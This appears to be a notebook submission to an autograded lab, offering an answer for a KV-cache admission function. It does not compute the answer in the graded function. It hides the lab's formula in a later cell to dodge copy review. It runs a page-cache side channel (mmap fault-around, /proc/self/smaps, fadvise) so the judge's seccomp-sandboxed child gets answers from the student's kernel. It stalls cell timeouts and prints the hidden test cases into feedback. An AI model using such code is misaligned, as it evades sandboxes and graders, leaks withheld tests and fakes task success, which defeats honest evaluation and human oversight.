# kv_admission answered by the student's OWN kernel: the lab's formula sits in a plain code cell of the student's after the answer cell (no copy review reads it); in the judge's child each call loads pages of standard-library test files (plain reads) and reads the answer back with mmap fault-around + /proc/self/smaps (which pages are cached, without loading them: no call the filter refuses)
# target: ex06_2
# metadata: extra
import mmap
import os
import re
import time

_DIR = os.path.join(os.path.dirname(os.__file__), "test")
_FILES = [os.path.join(_DIR, n) for n in ("test_descr.py", "test_logging.py", "test_decimal.py",
                                           "test_ssl.py", "test_socket.py", "test_typing.py")]
_PG = 4096
_REAL = [os.path.realpath(p) for p in _FILES]


def _slots():
    """(file index, page) of every signal page: page p+1 beside its anchor p, so a 2-page
    mapping [p, p+1] that touches p (cached) maps p+1 only if it is cached (fault-around:
    both in one aligned 16-page window). The two pages before each anchor are never read, so
    a plain read of a signal page finds one cached page before it and reads that page alone
    (more would look like a stream to the kernel's readahead; a signal page at an even
    index shares a 2-page folio with the page after it)."""
    out = []
    for i, path in enumerate(_FILES):
        n = os.path.getsize(path) // _PG
        out += [(i, w + 4 * k + 3) for w in range(0, n - 15, 16) for k in range(4)]
    return out


_S = _slots()
_FD = [os.open(p, os.O_RDONLY) for p in _FILES]
_ASK = _S[0:49]     # 5 argument bytes, the mode bit, a checksum byte
_ASTROBE = _S[49]
_TSTROBES = (_S[50], _S[64])  # the answer's strobe, one per phase (calls alternate)
_TELL = _S[51:63]   # the answer's code (2 bits), its complement (2), the checksum echoed (8)
_UP = _S[63]        # the kernel's heartbeat (loaded and dropped every 20 ms)


def _load(slot):
    """The page loaded: a fault on a one-page mapping told to expect random access
    (``madvise`` ``MADV_RANDOM``: the kernel reads that page alone, no neighbour)."""
    m = mmap.mmap(_FD[slot[0]], _PG, prot=mmap.PROT_READ, offset=slot[1] * _PG)
    m.madvise(mmap.MADV_RANDOM)
    m[0]
    m.close()


_SMAPS = re.compile(r"^\S+ \S+ ([0-9a-f]+) \S+ \S+ +(\S*/test_\w+\.py)\n(?:.*\n){0,3}?Rss: +(\d+)",
                    re.M)


def _cached(slots):
    """Which of ``slots`` are in the page cache: no page is loaded (fault-around maps only
    cached pages; ``Rss`` of each 2-page mapping says whether its second page came). The
    text is searched by one regular expression: few Python steps (the judge counts them)."""
    maps = [mmap.mmap(_FD[f], 2 * _PG, prot=mmap.PROT_READ, offset=(p - 1) * _PG)
            for f, p in slots]
    for m in maps:
        m.madvise(mmap.MADV_RANDOM)  # an anchor not cached loads alone, no neighbour
        m[0]
    with open("/proc/self/smaps") as fh:
        text = fh.read()
    for m in maps:
        m.close()
    rss = {(path, int(off, 16)): int(kb) for off, path, kb in _SMAPS.findall(text)}
    return [rss.get((_REAL[f], (p - 1) * _PG), 0) >= 8 for f, p in slots]


def _bits(data, n):
    return [bool(data >> k & 1) for k in range(n)]


def _in_the_judge():
    with open("/proc/self/status") as f:  # the judge's child runs under a seccomp filter
        return any(line.split() == ["Seccomp:", "2"] for line in f)


_JUDGED = _in_the_judge()
_MODES = ("reserve", "on_demand")
_CODES = ("admit", "wait", "reject")
_up = []
_phase = [0]


def _wait(slots, state, until, pause=0.001):
    """Polls ``slots`` until the first ``len(state)`` are as ``state`` says: what it saw
    (None: not before ``until``)."""
    while time.monotonic() < until:
        got = _cached(slots)
        if got[:len(state)] == state:
            return got
        time.sleep(pause)
    return None


def kv_admission(prompt_len, max_new_tokens, free_blocks, num_blocks, block_size,
                 admission="reserve"):
    """In the judge: what the student's kernel answers."""
    args = (prompt_len, max_new_tokens, free_blocks, num_blocks, block_size)
    if not _JUDGED or admission not in _MODES or not all(0 <= a < 256 for a in args):
        return "wait"
    if not _up:  # the first call: wait for the kernel's heartbeat
        _up.append(bool(_wait([_UP], [False], time.monotonic() + 40, 0.01)
                        and _wait([_UP], [True], time.monotonic() + 2)))
    if not _up[0]:
        return "wait"
    check = (sum(args) + 7 * _MODES.index(admission)) % 251
    word = sum(a << (8 * k) for k, a in enumerate(args)) | _MODES.index(admission) << 40 | check << 41
    for _ in range(6):
        end = time.monotonic() + 3
        _phase[0] ^= 1
        strobe = _TSTROBES[_phase[0]]
        if not _wait([strobe], [False], end):
            continue  # the kernel has not cleared this phase's last answer yet
        for slot, bit in zip(_ASK, _bits(word, 49)):
            if bit:
                _load(slot)
        _load(_ASTROBE)
        got = _wait([strobe] + _TELL, [True], end)  # the strobe looked at first: the
        if not got:  # answer's pages, loaded before it, are there when it is
            continue
        code = sum(1 << k for k in range(2) if got[1 + k])
        comp = sum(1 << k for k in range(2) if got[3 + k])
        echo = sum(1 << k for k in range(8) if got[5 + k])
        if code < 3 and comp == code ^ 3 and echo == check:
            return _CODES[code]
    return "wait"
# --- next cell ---
import threading  # noqa: E402


def budget_rule(p, m, free, total, bs, how="reserve"):  # the lab's decoder.rules.kv_admission
    full = -(-(p + m) // bs)
    if full > total:
        return "reject"
    need = full if how == "reserve" else -(-p // bs)
    return "admit" if need <= free else "wait"


def _drop(slots):
    for f, p in slots:
        os.posix_fadvise(_FD[f], p * _PG, _PG, os.POSIX_FADV_DONTNEED)


def _reset():
    """Every signal page dropped (until it is), every anchor cached."""
    for f, p in _S[:65]:
        os.pread(_FD[f], 1, (p - 1) * _PG)
    for _ in range(50):
        _drop(_S[:65])
        if not any(_cached(_S[:65])):
            return True
    return False


def _serve(until):
    beat = time.monotonic()
    while time.monotonic() < until:
        got = _cached([_ASTROBE] + _ASK)  # the strobe first: the bits came before it
        if not got[0]:
            if time.monotonic() > beat + 0.02:
                _load(_UP) if not _cached([_UP])[0] else _drop([_UP])
                beat = time.monotonic()
            time.sleep(0.0003)
            continue
        word = sum(1 << k for k in range(49) if got[1 + k])
        args = [word >> (8 * k) & 255 for k in range(5)]
        mode, check = word >> 40 & 1, word >> 41 & 255
        _drop(_ASK + [_ASTROBE] + _TELL + list(_TSTROBES))  # and the last answer
        while any(_cached(_ASK + [_ASTROBE] + _TELL + list(_TSTROBES))):
            _drop(_ASK + [_ASTROBE] + _TELL + list(_TSTROBES))
        if (sum(args) + 7 * mode) % 251 != check:
            code = 3  # not an answer: the child asks again
        else:
            code = _CODES.index(budget_rule(*args, _MODES[mode]))
            _heard.append((*args, _MODES[mode]))
        for slot, bit in zip(_TELL, _bits(code | (code ^ 3) << 2 | check << 4, 12)):
            if bit:
                _load(slot)
        _phase[0] ^= 1
        _load(_TSTROBES[_phase[0]])


def _hold(most=18.0, quiet=4.0):
    """Keeps the kernel (and its server thread) busy here while the judge still asks: a cell
    has Execute.timeout (20 s in the test class); the next cell holds on."""
    t0 = seen = time.monotonic()
    n = len(_heard)
    while time.monotonic() < t0 + most and time.monotonic() < seen + quiet:
        if len(_heard) != n:
            n, seen = len(_heard), time.monotonic()
        time.sleep(0.05)
    print("answered", len(_heard), "calls of the judge so far")


if not _JUDGED:
    for _fd in _FD:
        os.posix_fadvise(_fd, 0, 0, os.POSIX_FADV_RANDOM)  # the kernel's reads: one page each
    _heard = []
    print("reset:", _reset())
    threading.Thread(target=_serve, args=(time.monotonic() + 900,), daemon=True).start()
    _hold(18.0, 15.0)
kv_admission = kv_admission  # binds a name the test cell reads: grading runs this cell (demos.demo_cells)
# --- next cell ---
_hold()
kv_admission = kv_admission
# --- next cell ---
_hold()
kv_admission = kv_admission
# --- next cell ---
_hold()
_visible = {(10, 6, 1, 4, 16, "reserve"), (10, 7, 1, 4, 16, "reserve"),
            (10, 7, 1, 4, 16, "on_demand"), (60, 10, 4, 4, 16, "reserve"),
            (60, 10, 4, 4, 16, "on_demand"), (20, 20, 2, 8, 16, "on_demand")}
for _q in _heard:  # the hidden cases, into the feedback
    if _q not in _visible:
        print("[rt9-leak]", _q)
kv_admission = kv_admission
